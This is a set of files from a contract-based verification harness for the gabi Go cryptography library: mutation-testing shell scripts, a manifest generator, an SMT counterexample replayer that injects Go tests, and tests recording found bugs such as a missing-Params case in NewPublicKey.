#!/bin/sh
# usage: selftest/one.sh <patch relative to the verif directory>  -- applies one must-fail patch to a scratch copy of /repo and
# runs the check of its property; prints CAUGHT / MISSED / SKIP and exits 0 only for CAUGHT
V=$(cd "$(dirname "$0")/.." && pwd)
cd "$V" || exit 2
p=$1
case "$p" in
  seeded/*) prop=$(python3 -c "import json,sys;print(json.load(open('$(dirname $p)/meta.json'))['property'])") ;;
  *) prop=$(basename "$p" | cut -d- -f1) ;;
esac
d=$(mktemp -d "${TMPDIR:-/tmp}/gabi-mut-XXXXXX")
cp -r /repo/. "$d"/
if ! git -C "$d" apply "$V/$p" 2>/dev/null; then
  echo "SKIP $p (does not apply to the current tree)"
  rm -rf "$d"; exit 1
fi
o=$(mktemp -d "${TMPDIR:-/tmp}/gabi-mut-out-XXXXXX")
# A violation in any function settles the verdict, so the function the patch touches is tried alone first (the obligations of one
# function do not depend on which other functions are checked in the same run); without a violation there, the whole check runs.
fn=$(grep -h '^@@' "$V/$p" | sed -n 's/.*@@ func \(([^)]*) \)\{0,1\}\([A-Za-z0-9_]*\).*/\2/p' | head -1)
rc=0; out=""
if [ -n "$fn" ] && [ -z "${FULL:-}" ]; then
  out=$(VERIF_REPO="$d" VERIF_OUT="$o" ./check "$prop" --func "$fn" 2>&1); rc=$?
  [ "$rc" -eq 1 ] && [ "$(echo "$out" | grep -c '^VIOLATION')" -gt 0 ] || rc=0
fi
if [ "$rc" -ne 1 ]; then
  out=$(VERIF_REPO="$d" VERIF_OUT="$o" ./check "$prop" 2>&1); rc=$?
fi
rm -rf "$o" "$d"
n=$(echo "$out" | grep -c '^VIOLATION')
if [ "$rc" -eq 1 ] && [ "$n" -gt 0 ]; then
  echo "CAUGHT $p by $prop: $(echo "$out" | grep '^VIOLATION' | head -2 | sed 's/.*replays\/[^/]*\///' | tr '\n' ' ')"
  exit 0
fi
echo "MISSED $p by $prop (exit $rc)"
exit 1
