#!/bin/sh
# Harmless corpus: every patch under selftest/harmless (behaviour-preserving edits: renamed locals, reordered
# independent statements, changed messages, an extra early return, split conditions) is applied to a scratch copy of
# /repo; the check of the property named in the file name must stay quiet (exit 0, no VIOLATION line).
# usage: selftest/harmless.sh [pattern]
V=$(cd "$(dirname "$0")/.." && pwd)
cd "$V" || exit 2
pat="${1:-}"
fail=0
for p in selftest/harmless/*${pat}*.patch; do
  [ -f "$p" ] || continue
  prop=$(basename "$p" | cut -d- -f1)
  d=$(mktemp -d "${TMPDIR:-/tmp}/gabi-harm-XXXXXX")
  cp -r /repo/. "$d"/
  if ! git -C "$d" apply "$V/$p" 2>/dev/null; then
    echo "SKIP $p (does not apply to the current tree)"; fail=1; rm -rf "$d"; continue
  fi
  o=$(mktemp -d "${TMPDIR:-/tmp}/gabi-harm-out-XXXXXX")
  out=$(VERIF_REPO="$d" VERIF_OUT="$o" ./check "$prop" 2>&1); rc=$?
  n=$(echo "$out" | grep -c '^VIOLATION')
  if [ "$rc" -eq 0 ] && [ "$n" -eq 0 ]; then
    echo "QUIET $p ($prop)"
  else
    echo "FALSE-ALARM $p by $prop: $(echo "$out" | grep '^VIOLATION' | head -3 | sed 's/.*replays\/[^/]*\///' | tr '\n' ' ')"; fail=1
  fi
  rm -rf "$d" "$o"
done
exit $fail
