#!/bin/sh
# usage: trymut.sh <file relative to /repo> <sed expression> <property> [func filter]  -- applies a mutation, runs gvc, reverts
cd /repo || exit 2
cp "$1" /tmp/trymut.bak
sed -i "$2" "$1"
if cmp -s "$1" /tmp/trymut.bak; then echo "MUTATION DID NOT APPLY"; exit 2; fi
export PATH=/opt/veriftools/go1.26.8/bin:$PATH GOTOOLCHAIN=local GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off
if ! go build ./... 2>/tmp/trymut.err; then echo "DOES NOT COMPILE"; head -3 /tmp/trymut.err; cp /tmp/trymut.bak "$1"; exit 2; fi
if [ -n "$4" ]; then /verif/bin/gvc -prop "$3" -func "$4" -out /tmp/trymut.out 2>&1 | tail -4; else /verif/bin/gvc -prop "$3" -out /tmp/trymut.out 2>&1 | tail -4; fi
cp /tmp/trymut.bak "$1"
