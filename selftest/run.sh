#!/bin/sh
# Must-fail corpus: every patch under selftest/mutants (and seeded/*/patch.diff) is applied to a scratch copy of /repo;
# the check of the property named in the file name (Cxx-...) must then report a VIOLATION.
# usage: selftest/run.sh [pattern]        (JOBS patches at a time, default 3; exit 0 only if every patch is CAUGHT)
V=$(cd "$(dirname "$0")/.." && pwd)
cd "$V" || exit 2
pat="${1:-}"
ls selftest/mutants/*${pat}*.patch seeded/*${pat}*/patch.diff 2>/dev/null | xargs -P "${JOBS:-3}" -n 1 sh selftest/one.sh
