#!/bin/sh
# Must-fail corpus: every patch under selftest/mutants (and seeded/*/patch.diff) is applied to a scratch copy of /repo;
# the check of the property named in the file name (Cxx-...) must then report a VIOLATION.
# usage: selftest/run.sh [pattern]
V=$(cd "$(dirname "$0")/.." && pwd)
cd "$V" || exit 2
pat="${1:-}"
fail=0
for p in selftest/mutants/*${pat}*.patch seeded/*${pat}*/patch.diff; do
  [ -f "$p" ] || continue
  case "$p" in
    seeded/*) prop=$(python3 -c "import json,sys;print(json.load(open('$(dirname $p)/meta.json'))['property'])") ;;
    *) prop=$(basename "$p" | cut -d- -f1) ;;
  esac
  d=$(mktemp -d "${TMPDIR:-/tmp}/gabi-mut-XXXXXX")
  cp -r /repo/. "$d"/
  if ! git -C "$d" apply "$V/$p" 2>/dev/null; then
    echo "SKIP $p (does not apply to the current tree)"; fail=1
    rm -rf "$d"; continue
  fi
  o=$(mktemp -d "${TMPDIR:-/tmp}/gabi-mut-out-XXXXXX")
  out=$(VERIF_REPO="$d" VERIF_OUT="$o" ./check "$prop" 2>&1); rc=$?
  rm -rf "$o"
  n=$(echo "$out" | grep -c '^VIOLATION')
  if [ "$rc" -eq 1 ] && [ "$n" -gt 0 ]; then
    echo "CAUGHT $p by $prop: $(echo "$out" | grep '^VIOLATION' | head -2 | sed 's/.*replays\/[^/]*\///' | tr '\n' ' ')"
  else
    echo "MISSED $p by $prop (exit $rc)"; fail=1
  fi
  rm -rf "$d"
done
exit $fail
