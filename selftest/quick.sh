#!/bin/sh
# usage: selftest/quick.sh <patch> <property> [func substring] -- applies a patch to a scratch copy of /repo and runs gvc (not the
# check driver) on it; for trying a seed or mutant while developing
V=$(cd "$(dirname "$0")/.." && pwd)
export PATH=/opt/veriftools/go1.26.8/bin:$PATH GOTOOLCHAIN=local GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off
P=$(readlink -f "$1")
d=$(mktemp -d /tmp/gabi-q-XXXXXX); o=$(mktemp -d /tmp/gabi-qo-XXXXXX)
trap 'rm -rf "$d" "$o"' EXIT
rsync -a --exclude .git /repo/ "$d"/
(cd "$d" && git apply "$P") || { echo "patch does not apply"; exit 2; }
L=""; [ -f "$V/ledger/locals.json" ] && L="-locals $V/ledger/locals.json"
if [ -n "${3:-}" ]; then "$V/bin/gvc" -repo "$d" -prop "$2" -out "$o" $L -func "$3" 2>&1 | tail -${TAIL:-8}; else "$V/bin/gvc" -repo "$d" -prop "$2" -out "$o" $L 2>&1 | tail -${TAIL:-8}; fi
