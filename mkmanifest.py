#!/usr/bin/env python3
"""Regenerates MANIFEST.json from the table below (run after changing which properties are claimed)."""
import json, subprocess, os

GOENV = "PATH=/opt/veriftools/go1.26.8/bin:$PATH GOTOOLCHAIN=local GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off"

# property -> (claimed?, what the contracts decide, what is assumed / not decided)
P = {}

def claim(pid, text, note):
    P[pid] = (True, text, note)

def na(pid, reason):
    P[pid] = (False, reason, "")

exec(open(os.path.join(os.path.dirname(__file__), "claims.py")).read())

try:
    commits = subprocess.run("git -C /repo log --format=%H --grep='^verif:'", shell=True, capture_output=True, text=True).stdout.split()
except Exception:
    commits = []

m = {
    "version": 1,
    "setup_cmd": f"cd /verif/gvc && {GOENV} GOFLAGS=-mod=vendor go build -o /verif/bin/gvc .",
    "hooks": {
        "guard": "verif",
        "enable": "-tags verif (comment-only contract files zz_contracts_verif.go, one per package; they add no code)",
        "baseline_off_cmd": f"cd /repo && {GOENV} go test -vet=off -count=1 -timeout 25m ./...",
        "source_commits": commits,
        "add_only": True,
    },
    "engines": [{
        "name": "gvc",
        "path": "/verif/gvc",
        "serves_properties": sorted(k for k, v in P.items() if v[0]),
        "kind_free_text": "verification-condition generator written for this task: go/packages+go/ssa of /repo's working tree -> per-function symbolic execution against //@ contracts -> SMT-LIB 2 obligations -> z3-new / z3 / cvc5",
    }],
    "checks": [],
    "not_applicable": [],
    "notes": "Technique: contract-based deductive verification of the real code. Contracts live in /repo/<pkg>/zz_contracts_verif.go behind build tag verif. Bounded stand-ins (where present) are labelled bounded in the evidence and never counted as discharged. See DESIGN.md.",
}
for pid in sorted(P):
    ok, text, note = P[pid]
    if ok:
        m["checks"].append({
            "property_id": pid,
            "quick_cmd": f"./check {pid} --tier quick",
            "thorough_cmd": f"./check {pid} --tier thorough",
            "evidence_file": f"/verif/evidence/{pid}.json",
            "replay_cmd_template": f"./check {pid} --replay {{path}}",
            "engine": "gvc",
            "level_claimed": {"category": "proof", "text": text, "design_ref": f"DESIGN.md section 4, {pid}"},
            "level_note": note,
            "technique": "contract-based deductive verification: weakest-precondition style VCs generated from go/ssa of the real code, discharged by SMT (z3/cvc5)",
        })
    else:
        m["not_applicable"].append({"property_id": pid, "reason": text})
json.dump(m, open(os.path.join(os.path.dirname(__file__), "MANIFEST.json"), "w"), indent=1)
print("claimed:", [c["property_id"] for c in m["checks"]])
