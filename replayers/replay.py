#!/usr/bin/env python3
"""Replays a solver counterexample against the real code.

  replay.py <property> <function> <obligation> <query.smt2>

Called by ./check for obligations the solver refuted with a model. For the functions listed in HANDLERS the
model is turned into concrete Go inputs, an in-package test is injected with `go test -overlay` (nothing is
written into the repository) and the property's oracle is evaluated on the real function. Prints one line
starting with CONFIRMED (and exits 0) when the real code misbehaves on the model's input; anything else means
"no failing input found" (the model may depend on uninterpreted functions such as pow or isprime).
"""
import json, os, re, subprocess, sys, tempfile

REPO = os.environ.get("VERIF_REPO", "/repo")
GO = "/opt/veriftools/go1.26.8/bin"
ENV = dict(os.environ)
ENV["PATH"] = GO + ":" + ENV.get("PATH", "")
ENV.update({"GOTOOLCHAIN": "local", "GOPROXY": "off", "GOSUMDB": "off", "GOFLAGS": "-mod=mod"})


def get_values(query, terms, fixed=None):
    """evaluates ground terms in ONE model of the query (z3-new); fixed = {term: value} pins earlier answers so
    that a second call talks about the same model"""
    txt = open(query).read()
    txt = txt.replace("(get-model)\n", "")
    i = txt.rfind("(check-sat)")
    pins = ""
    for t, v in (fixed or {}).items():
        sv = f"(- {-v})" if isinstance(v, int) and v < 0 else str(v).lower() if isinstance(v, bool) else str(v)
        pins += f"(assert (= {t} {sv}))\n"
    txt = txt[:i] + pins + "(check-sat)\n(get-value (" + " ".join(terms) + "))\n"
    with tempfile.NamedTemporaryFile("w", suffix=".smt2", delete=False) as f:
        f.write(txt)
        p = f.name
    try:
        r = subprocess.run(["z3-new", "-T:30", p], capture_output=True, text=True)
    finally:
        os.unlink(p)
    lines = [l for l in r.stdout.split("\n") if l and not l.startswith("WARNING")]
    if not lines or lines[0] != "sat":
        return None
    out = "\n".join(lines[1:])
    vals = []
    # values come back in order as (term value) pairs; parse the trailing value of each pair
    depth, start, pairs = 0, None, []
    body = out.strip()
    if body.startswith("("):
        body = body[1:-1]
    for i, c in enumerate(body):
        if c == "(":
            if depth == 0:
                start = i
            depth += 1
        elif c == ")":
            depth -= 1
            if depth == 0 and start is not None:
                pairs.append(body[start:i + 1])
    for pr in pairs:
        m = re.search(r"(\(- (\d+)\)|(-?\d+)|true|false)\)\s*$", pr)
        if not m:
            vals.append(None)
        elif m.group(2):
            vals.append(-int(m.group(2)))
        elif m.group(3):
            vals.append(int(m.group(3)))
        else:
            vals.append(m.group(1) == "true")
    return vals if len(vals) == len(terms) else None


def sym(query, prefix):
    m = re.search(r"\(declare-fun (" + re.escape(prefix) + r"!\d+) ", open(query).read())
    return m.group(1) if m else None


def heap(query, name):
    """first version (entry state) of a heap variable"""
    m = re.search(r"\(declare-fun (\|" + re.escape(name) + r"!0\||" + re.escape(name) + r"!0) ", open(query).read())
    return m.group(1) if m else None


def run_go(pkgdir, testsrc, testname):
    d = tempfile.mkdtemp(prefix="gabi-replay-")
    try:
        tf = os.path.join(d, "zz_replay_test.go")
        open(tf, "w").write(testsrc)
        target = os.path.join(REPO, pkgdir, "zz_replay_test.go")
        ov = os.path.join(d, "ov.json")
        json.dump({"Replace": {target: tf}}, open(ov, "w"))
        r = subprocess.run(["go", "test", "-overlay", ov, "-vet=off", "-count=1", "-timeout", "60s", "-run", testname + "$", "./" + pkgdir],
                           cwd=REPO, env=ENV, capture_output=True, text=True)
        return r.stdout + r.stderr
    finally:
        subprocess.run(["rm", "-rf", d])


def slices_bytes(query, ss, maxlen=64):
    """contents of several byte slices in one model"""
    e = heap(query, "E:uint8")
    lens = get_values(query, [f"(sl_len {s})" for s in ss])
    if not lens or any(n is None or n < 0 or n > maxlen for n in lens):
        return None
    fixed = {f"(sl_len {s})": n for s, n in zip(ss, lens)}
    terms = []
    for s, n in zip(ss, lens):
        terms += [f"(select (select {e} (sl_arr {s})) (+ (sl_off {s}) {i}))" for i in range(n)] if e else []
    vals = get_values(query, terms, fixed) if terms else []
    if vals is None:
        return None
    out, k = [], 0
    for s, n in zip(ss, lens):
        if e is None:
            out.append([0] * n)
        else:
            out.append([(b or 0) % 256 for b in vals[k:k + n]])
            k += n
    return out


def hash_equal(query, ob):
    h, o = sym(query, "p_hash"), sym(query, "p_other")
    if not h or not o:
        return None
    ab = slices_bytes(query, [h, o])
    if ab is None:
        return None
    a, b = ab
    lit = lambda x: "[]byte{" + ",".join(map(str, x)) + "}"
    src = f"""package revocation
import ("bytes"; "testing")
func TestReplay(t *testing.T) {{
	a, b := {lit(a)}, {lit(b)}
	if Hash(a).Equal(Hash(b)) != bytes.Equal(a, b) {{
		t.Errorf("REPLAY-MISMATCH Hash(%v).Equal(Hash(%v)) = %v", a, b, Hash(a).Equal(Hash(b)))
	}}
}}
"""
    out = run_go("revocation", src, "TestReplay")
    m = re.search(r"REPLAY-MISMATCH (.*)", out)
    return ("CONFIRMED on the real code: " + m.group(1) + " but the slices are " + ("equal" if a == b else "different")) if m else None


def rp_terms(query, p):
    P = "github.com/privacybydesign/gabi/rangeproof.Proof"
    hs = {f: heap(query, f"F:{P}.{f}") for f in ["Sign", "A", "K", "Cs"]}
    bv = heap(query, "BV")
    return [f"(select {hs['Sign']} {p})" if hs["Sign"] else "0", f"(select {hs['A']} {p})" if hs["A"] else "0",
            f"(select {bv} (select {hs['K']} {p}))" if hs["K"] and bv else "0", f"(sl_len (select {hs['Cs']} {p}))" if hs["Cs"] else "4"]


def proves_statement(query, ob):
    p, sg, fa, bd = sym(query, "p_p"), sym(query, "p_sign"), sym(query, "p_factor"), sym(query, "p_bound")
    bv = heap(query, "BV")
    txt = open(query).read()
    goal = txt[txt.rfind("(assert (not "):]
    skm = [x for x in re.findall(r"sk_m!\d+", goal)]
    if not (p and sg and fa and bd and bv and skm):
        return None
    v = get_values(query, rp_terms(query, p) + [sg, fa, f"(select {bv} {bd})", skm[0]])
    if not v or None in v:
        return None
    psign, pa, pk, ncs, sign, factor, bound, m = v
    if ncs < 0 or ncs > 8 or pa < 0 or factor < 0:
        return None
    src = f"""package rangeproof
import ("testing"; "github.com/privacybydesign/gabi/big")
func TestReplay(t *testing.T) {{
	bi := func(s string) *big.Int {{ x, _ := new(big.Int).SetString(s, 10); return x }}
	p := &Proof{{Sign: {psign}, A: {pa}, K: bi("{pk}"), Cs: make([]*big.Int, {ncs})}}
	m, bound := bi("{m}"), bi("{bound}")
	var sign int = {sign}
	var factor uint = {factor}
	if !p.ProvesStatement(sign, factor, bound) {{ return }}
	// what the proof establishes about m: Sign*(A*m-K) >= 0
	est := new(big.Int).Mul(new(big.Int).SetUint64(uint64(p.A)), m); est.Sub(est, p.K); est.Mul(est, big.NewInt(int64(p.Sign)))
	// what ProvesStatement claims it implies: sign*(factor*m-bound) >= 0
	cl := new(big.Int).Mul(new(big.Int).SetUint64(uint64(factor)), m); cl.Sub(cl, bound); cl.Mul(cl, big.NewInt(int64(sign)))
	if est.Sign() >= 0 && cl.Sign() < 0 {{
		t.Errorf("REPLAY-MISMATCH proof(Sign=%d A=%d K=%v squares=%d).ProvesStatement(%d, %d, %v) = true, but m = %v satisfies the proven statement and violates the claimed one", p.Sign, p.A, p.K, len(p.Cs), sign, factor, bound, m)
	}}
}}
"""
    out = run_go("rangeproof", src, "TestReplay")
    mm = re.search(r"REPLAY-MISMATCH (.*)", out)
    return ("CONFIRMED on the real code: " + mm.group(1)) if mm else None


def statement_sign(query, ob):
    t = sym(query, "p_typ")
    v = get_values(query, [t]) if t else None
    if not v or v[0] is None:
        return None
    src = f"""package rangeproof
import "testing"
func TestReplay(t *testing.T) {{
	s, err := StatementType({v[0]}).Sign()
	want, ok := 0, false
	switch {v[0]} {{ case 0: want, ok = 1, true; case 1: want, ok = -1, true }}
	if ok != (err == nil) || (ok && s != want) {{ t.Errorf("REPLAY-MISMATCH StatementType(%d).Sign() = %d, %v", {v[0]}, s, err) }}
}}
"""
    out = run_go("rangeproof", src, "TestReplay")
    mm = re.search(r"REPLAY-MISMATCH (.*)", out)
    return ("CONFIRMED on the real code: " + mm.group(1)) if mm else None


def bigvals(query, names):
    """values of *big.Int parameters (entry state) in one model; None for a nil parameter"""
    bv = heap(query, "BV")
    syms = [sym(query, "p_" + n) for n in names]
    if bv is None or None in syms:
        return None
    v = get_values(query, syms + [f"(select {bv} {x})" for x in syms])
    if v is None or None in v:
        return None
    k = len(names)
    return [None if v[i] == 0 else v[k + i] for i in range(k)]


def mod_inverse(query, ob):
    v = bigvals(query, ["a", "n"])
    if not v or None in v or v[1] == 0:
        return None
    a, n = v
    src = f"""package common
import ("testing"; gobig "math/big"; "github.com/privacybydesign/gabi/big")
func TestReplay(t *testing.T) {{
	bi := func(s string) *big.Int {{ x, _ := new(big.Int).SetString(s, 10); return x }}
	a, n := bi("{a}"), bi("{n}")
	ia, ok := ModInverse(a, n)
	g := new(gobig.Int).GCD(nil, nil, new(gobig.Int).Abs(a.Go()), new(gobig.Int).Abs(n.Go()))
	want := g.Cmp(gobig.NewInt(1)) == 0
	if ok != want {{ t.Errorf("REPLAY-MISMATCH ModInverse(%v, %v) reports ok=%v but gcd is %v", a, n, ok, g); return }}
	if !ok {{ if ia != nil {{ t.Errorf("REPLAY-MISMATCH ModInverse(%v, %v) returned %v without an inverse", a, n, ia) }}; return }}
	r := new(gobig.Int).Mul(a.Go(), ia.Go()); r.Sub(r, gobig.NewInt(1)); r.Mod(r, new(gobig.Int).Abs(n.Go()))
	if r.Sign() != 0 {{ t.Errorf("REPLAY-MISMATCH ModInverse(%v, %v) = %v, but a*ia-1 is not divisible by n", a, n, ia) }}
}}
"""
    out = run_go("internal/common", src, "TestReplay")
    mm = re.search(r"REPLAY-MISMATCH (.*)", out)
    return ("CONFIRMED on the real code: " + mm.group(1)) if mm else None


def mod_pow(query, ob):
    v = bigvals(query, ["x", "y", "m"])
    if not v or None in v or v[2] == 0:
        return None
    x, y, m = v
    if abs(y) > 10**6 and abs(m).bit_length() > 4096:
        return None
    src = f"""package common
import ("testing"; gobig "math/big"; "github.com/privacybydesign/gabi/big")
func TestReplay(t *testing.T) {{
	bi := func(s string) *big.Int {{ x, _ := new(big.Int).SetString(s, 10); return x }}
	x, y, m := bi("{x}"), bi("{y}"), bi("{m}")
	r, err := ModPow(x, y, m)
	am := new(gobig.Int).Abs(m.Go())
	base := new(gobig.Int).Mod(x.Go(), am)
	var want *gobig.Int
	if y.Sign() >= 0 {{
		want = new(gobig.Int).Exp(base, y.Go(), am)
	}} else if inv := new(gobig.Int).ModInverse(base, am); inv != nil {{
		want = new(gobig.Int).Exp(inv, new(gobig.Int).Neg(y.Go()), am)
	}}
	if want == nil {{ if err == nil {{ t.Errorf("REPLAY-MISMATCH ModPow(%v, %v, %v) = %v although the base has no inverse", x, y, m, r) }}; return }}
	if err != nil || r == nil || r.Go().Cmp(want) != 0 {{ t.Errorf("REPLAY-MISMATCH ModPow(%v, %v, %v) = %v, %v; the correct value is %v", x, y, m, r, err, want) }}
}}
"""
    out = run_go("internal/common", src, "TestReplay")
    mm = re.search(r"REPLAY-MISMATCH (.*)", out)
    return ("CONFIRMED on the real code: " + mm.group(1)) if mm else None


def probably_safe_prime(query, ob):
    v = bigvals(query, ["x"])
    if not v or None in v or abs(v[0]).bit_length() > 4096:
        return None
    src = f"""package safeprime
import ("testing"; "github.com/privacybydesign/gabi/big")
func TestReplay(t *testing.T) {{
	x, _ := new(big.Int).SetString("{v[0]}", 10)
	got := ProbablySafePrime(x, 40)
	half := new(big.Int).Rsh(x, 1)
	want := x.Cmp(big.NewInt(2)) > 0 && x.ProbablyPrime(40) && half.ProbablyPrime(40)
	if got != want {{ t.Errorf("REPLAY-MISMATCH ProbablySafePrime(%v) = %v, expected %v", x, got, want) }}
}}
"""
    out = run_go("safeprime", src, "TestReplay")
    mm = re.search(r"REPLAY-MISMATCH (.*)", out)
    return ("CONFIRMED on the real code: " + mm.group(1)) if mm else None


def _sweep_note(tag):
    return " (input from a sweep of small arguments; the model's own input did not fail)" if tag == "sweep" else ""


def _run_common(src):
    out = run_go("internal/common", src, "TestReplay")
    mm = re.search(r"REPLAY-MISMATCH (\w+) (.*)", out)
    return ("CONFIRMED on the real code" + _sweep_note(mm.group(1)) + ": " + mm.group(2)) if mm else None


def crt(query, ob):
    v = bigvals(query, ["a", "pa", "b", "pb"])
    if not v or None in v or any(abs(x).bit_length() > 8192 for x in v):
        v = [2, 3, 3, 5]
    a, pa, b, pb = v
    src = f"""package common
import ("testing"; gobig "math/big"; "github.com/privacybydesign/gabi/big")
func TestReplay(t *testing.T) {{
	bi := func(s string) *big.Int {{ x, _ := new(big.Int).SetString(s, 10); return x }}
	try := func(tag string, a, pa, b, pb *big.Int) bool {{
		if pa.Sign() <= 0 || pb.Sign() <= 0 || new(gobig.Int).GCD(nil, nil, pa.Go(), pb.Go()).Cmp(gobig.NewInt(1)) != 0 {{ return false }}
		r := Crt(new(big.Int).Set(a), new(big.Int).Set(pa), new(big.Int).Set(b), new(big.Int).Set(pb))
		n := new(gobig.Int).Mul(pa.Go(), pb.Go())
		da := new(gobig.Int).Mod(new(gobig.Int).Sub(r.Go(), a.Go()), pa.Go())
		db := new(gobig.Int).Mod(new(gobig.Int).Sub(r.Go(), b.Go()), pb.Go())
		if r.Sign() < 0 || r.Go().Cmp(n) >= 0 || da.Sign() != 0 || db.Sign() != 0 {{
			t.Errorf("REPLAY-MISMATCH %s Crt(%v, %v, %v, %v) = %v is not the residue in [0, pa*pb) congruent to a mod pa and b mod pb", tag, a, pa, b, pb, r)
			return true
		}}
		return false
	}}
	if try("model", bi("{a}"), bi("{pa}"), bi("{b}"), bi("{pb}")) {{ return }}
	for pa := int64(1); pa < 12; pa++ {{ for pb := int64(1); pb < 12; pb++ {{ for a := int64(-3); a < 12; a++ {{ for b := int64(-3); b < 12; b++ {{
		if try("sweep", big.NewInt(a), big.NewInt(pa), big.NewInt(b), big.NewInt(pb)) {{ return }}
	}} }} }} }}
}}
"""
    return _run_common(src)


def legendre(query, ob):
    v = bigvals(query, ["a", "p"])
    if not v or None in v or any(abs(x).bit_length() > 8192 for x in v):
        v = [2, 7]
    a, p = v
    src = f"""package common
import ("testing"; gobig "math/big"; "github.com/privacybydesign/gabi/big")
func TestReplay(t *testing.T) {{
	bi := func(s string) *big.Int {{ x, _ := new(big.Int).SetString(s, 10); return x }}
	try := func(tag string, a, p *big.Int) bool {{
		if p.Sign() <= 0 || p.Bit(0) == 0 {{ return false }}
		got := LegendreSymbol(new(big.Int).Set(a), new(big.Int).Set(p))
		want := gobig.Jacobi(a.Go(), p.Go())
		if got != want {{ t.Errorf("REPLAY-MISMATCH %s LegendreSymbol(%v, %v) = %d, the Jacobi symbol is %d", tag, a, p, got, want); return true }}
		return false
	}}
	if try("model", bi("{a}"), bi("{p}")) {{ return }}
	for p := int64(1); p < 200; p += 2 {{ for a := int64(-5); a < 210; a++ {{ if try("sweep", big.NewInt(a), big.NewInt(p)) {{ return }} }} }}
}}
"""
    return _run_common(src)


def prime_sqrt(query, ob):
    v = bigvals(query, ["a", "pa"])
    if not v or None in v or any(abs(x).bit_length() > 4096 for x in v):
        v = [0, 7]
    a, p = v
    src = f"""package common
import ("testing"; gobig "math/big"; "github.com/privacybydesign/gabi/big")
func TestReplay(t *testing.T) {{
	bi := func(s string) *big.Int {{ x, _ := new(big.Int).SetString(s, 10); return x }}
	try := func(tag string, a, p *big.Int) bool {{
		if p.Cmp(big.NewInt(3)) < 0 || !p.ProbablyPrime(30) {{ return false }}
		r, ok := PrimeSqrt(new(big.Int).Set(a), new(big.Int).Set(p))
		red := new(gobig.Int).Mod(a.Go(), p.Go())
		want := red.Sign() == 0 || gobig.Jacobi(red, p.Go()) == 1
		if ok != want {{ t.Errorf("REPLAY-MISMATCH %s PrimeSqrt(%v, %v) reports existence %v, expected %v", tag, a, p, ok, want); return true }}
		if ok {{
			sq := new(gobig.Int).Mod(new(gobig.Int).Mul(r.Go(), r.Go()), p.Go())
			if sq.Cmp(red) != 0 {{ t.Errorf("REPLAY-MISMATCH %s PrimeSqrt(%v, %v) = %v, whose square is %v", tag, a, p, r, sq); return true }}
		}}
		return false
	}}
	if try("model", bi("{a}"), bi("{p}")) {{ return }}
	for _, p := range []int64{{3, 5, 7, 13, 17, 41, 97}} {{ for a := -2 * p; a <= 2*p; a++ {{ if try("sweep", big.NewInt(a), big.NewInt(p)) {{ return }} }} }}
}}
"""
    return _run_common(src)


def fastmod_mod(query, ob):
    bv = heap(query, "BV")
    pm, px = sym(query, "p_m"), sym(query, "p_x")
    p = x = None
    if bv and pm and px:
        v = get_values(query, [f"(select {bv} (sub_1 {pm}))", f"(select {bv} {px})"])
        if v and None not in v:
            p, x = v
    if p is None or p <= 0 or p.bit_length() > 8192 or abs(x).bit_length() > 65536:
        p, x = 251, 1000
    src = f"""package common
import ("testing"; "github.com/privacybydesign/gabi/big")
func TestReplay(t *testing.T) {{
	bi := func(s string) *big.Int {{ x, _ := new(big.Int).SetString(s, 10); return x }}
	try := func(tag string, p, x *big.Int) bool {{
		var m FastMod
		m.Set(p)
		want := new(big.Int).Mod(x, p)
		got := m.Mod(new(big.Int), new(big.Int).Set(x))
		alias := new(big.Int).Set(x)
		m.Mod(alias, alias)
		if got.Cmp(want) != 0 || alias.Cmp(want) != 0 {{ t.Errorf("REPLAY-MISMATCH %s FastMod(p=%v).Mod(%v) = %v (aliased: %v), big.Int.Mod gives %v", tag, p, x, got, alias, want); return true }}
		return false
	}}
	if try("model", bi("{p}"), bi("{x}")) {{ return }}
	for b := uint(1); b <= 70; b++ {{ for c := int64(1); c <= 5; c++ {{
		p := new(big.Int).Sub(new(big.Int).Lsh(big.NewInt(1), b), big.NewInt(c))
		if p.Sign() <= 0 || uint(p.BitLen()) != b {{ continue }}
		sq := new(big.Int).Mul(p, p)
		for _, x := range []*big.Int{{big.NewInt(0), big.NewInt(1), p, new(big.Int).Add(p, big.NewInt(1)), new(big.Int).Sub(p, big.NewInt(1)), new(big.Int).Lsh(p, 1), new(big.Int).Lsh(big.NewInt(1), b), sq, new(big.Int).Sub(sq, big.NewInt(1)), new(big.Int).Neg(sq), big.NewInt(-1), new(big.Int).Lsh(sq, 70)}} {{
			if try("sweep", p, x) {{ return }}
		}}
	}} }}
}}
"""
    return _run_common(src)


HANDLERS = {
    "internal/common.ModInverse": mod_inverse,
    "internal/common.ModPow": mod_pow,
    "safeprime.ProbablySafePrime": probably_safe_prime,
    "internal/common.Crt": crt,
    "internal/common.LegendreSymbol": legendre,
    "internal/common.PrimeSqrt": prime_sqrt,
    "(*internal/common.FastMod).Mod": fastmod_mod,
    "(revocation.Hash).Equal": hash_equal,
    "(*rangeproof.Proof).ProvesStatement": proves_statement,
    "(rangeproof.StatementType).Sign": statement_sign,
}


def main():
    if len(sys.argv) < 5:
        print(__doc__)
        sys.exit(2)
    prop, func, ob, query = sys.argv[1:5]
    h = HANDLERS.get(func)
    if not h or not os.path.exists(query):
        print("no replayer for", func)
        sys.exit(1)
    try:
        res = h(query, ob)
    except Exception as e:  # noqa
        print("replay failed:", e)
        sys.exit(1)
    if res:
        print(res)
        sys.exit(0)
    print("model did not reproduce on the real code")
    sys.exit(1)


if __name__ == "__main__":
    main()
