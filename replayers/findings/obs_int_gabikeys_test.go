package gabikeys

import (
	"testing"
	"time"

	"github.com/privacybydesign/gabi/big"
)

// NewPublicKey looks the system parameters up by N.BitLen() and ignores a miss: for a modulus of 2047 bits (or any
// length other than 1024/2048/4096) it returns a key with Params == nil and no error, where NewPublicKeyFromBytes
// reports "unknown keylength". The first use of such a key (pk.Params.Lm, ...) is a nil pointer dereference.
func TestHuntNewPublicKeyUnsupportedLength(t *testing.T) {
	N := new(big.Int).Lsh(big.NewInt(1), 2046) // 2047 bits
	N.Add(N, big.NewInt(12345))
	pk, err := NewPublicKey(N, big.NewInt(4), big.NewInt(9), nil, nil, []*big.Int{big.NewInt(16)}, "", 0, time.Now())
	if err == nil && (pk == nil || pk.Params == nil) {
		t.Errorf("NewPublicKey with a %d bit modulus: no error, Params == nil", N.BitLen())
	}
}
