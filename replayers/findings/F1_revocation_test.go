package revocation

import "testing"

func TestF1(t *testing.T) {
	if (Hash{1, 2}).Equal(Hash{1}) {
		t.Errorf("Hash{1,2}.Equal(Hash{1}) = true")
	}
